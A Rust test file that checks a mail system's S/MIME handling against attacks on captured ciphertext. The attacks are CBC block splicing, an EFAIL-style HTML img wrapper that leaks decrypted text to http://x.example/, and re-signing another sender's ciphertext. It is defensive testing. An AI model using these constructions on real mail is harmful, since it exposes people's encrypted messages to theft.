//! Somebody else's ciphertext dressed up so that its plaintext gets out, or passes for the forger's or the author's own
//! (REQUIREMENTS J4).

use super::*;

const FROM_MALLORY: &str = "From: mallory@nec.example\r\nTo: bob@abc.example\r\n";
const BOB: &[&str] = &["bob@abc.example"];

/// What alice once sent to bob.
fn captured(world: &World, cipher: ContentCipher) -> Vec<Bytes> {
    world.sealed(&world.signed(PAYLOAD, &world.alice.signing), cipher, &world.bob)
}

/// Blocks of the ciphertext put elsewhere, and known ones before them: malleability gadgets.
fn spliced(world: &World) -> Vec<Bytes> {
    let entity = Entity::parse(mail(FROM_ALICE, &captured(world, CBC))).unwrap();
    let der = mime::decode_body(&entity).unwrap().to_vec();
    let end = der.len();
    let splice = |from: usize, to: usize, xor: u8| {
        let mut der = der.clone();
        let block: Vec<u8> = der[end - from..end - from + 16].iter().map(|o| o ^ xor).collect();
        der[end - to..end - to + 16].copy_from_slice(&block);
        mail(FROM_ALICE, &[mime::write::pkcs7_mime(&[], "enveloped-data", der)])
    };
    let places = (3..30).map(|block| block * 16);
    places.flat_map(|at| [splice(at, at - 32, 0), splice(at, 16, 0), splice(at, at, 1)]).collect()
}

/// An encrypted part in the middle of what would send it away.
fn around(world: &World, cipher: ContentCipher) -> Bytes {
    let sealed = joined(&captured(world, cipher));
    let parts = [
        b"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
          <img src=\"http://x.example/\r\n--b\r\n",
        &sealed[..],
        b"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n",
    ];
    mail(FROM_MALLORY, &[Bytes::from(parts.concat())])
}

fn attached(world: &World, cipher: ContentCipher) -> Bytes {
    let inner = mail(FROM_ALICE, &captured(world, cipher));
    let head = &b"Content-Type: message/rfc822\r\n\r\n"[..];
    mail(FROM_MALLORY, &[Bytes::from([head, &inner].concat())])
}

/// The ciphertext under the forger's own signature.
fn taken_over(world: &World, cipher: ContentCipher) -> Bytes {
    let mallory = world.authority.key("mallory@nec.example", KeyUsagePurpose::DigitalSignature);
    let sealed = joined(&captured(world, cipher));
    mail(FROM_MALLORY, &world.signed(&sealed, &mallory))
}

#[test]
fn no_plaintext_gets_out_and_nothing_passes() {
    let world = World::new();
    let mut mails = spliced(&world);
    for cipher in [GCM, CBC] {
        let captured = captured(&world, cipher);
        mails.extend([
            around(&world, cipher),
            attached(&world, cipher),
            taken_over(&world, cipher),
            mail(FROM_MALLORY, &captured),
        ]);
    }
    let pass = Decision {
        unauthenticated_encryption: UnauthenticatedEncryption::Pass,
        ..Decision::default()
    };
    for (number, mail) in mails.iter().enumerate() {
        for decision in [Decision::default(), pass] {
            let outcome = world.take_with(decision, mail, BOB);
            assert_ne!(outcome.report.verdict, Verdict::Pass, "mail {number}");
            let Ok(done) = &outcome.result else { continue };
            for parcel in 0..done.parcels.len() {
                assert!(!outcome.message(parcel).contains("quick brown"), "mail {number}");
            }
        }
    }
}

/// Unsigned inside, it is bob's to read; it is not the forger's word for that.
#[test]
fn a_signature_around_another_ones_ciphertext_makes_no_author() {
    let world = World::new();
    let mallory = world.authority.key("mallory@nec.example", KeyUsagePurpose::DigitalSignature);
    let sealed = joined(&world.sealed(&[Bytes::from_static(PAYLOAD)], GCM, &world.bob));
    let outcome = world.take(&mail(FROM_MALLORY, &world.signed(&sealed, &mallory)));
    row(&outcome, "250", Delivered::Plain, Verdict::None, Some(Reason::EncryptedUnsigned));
}
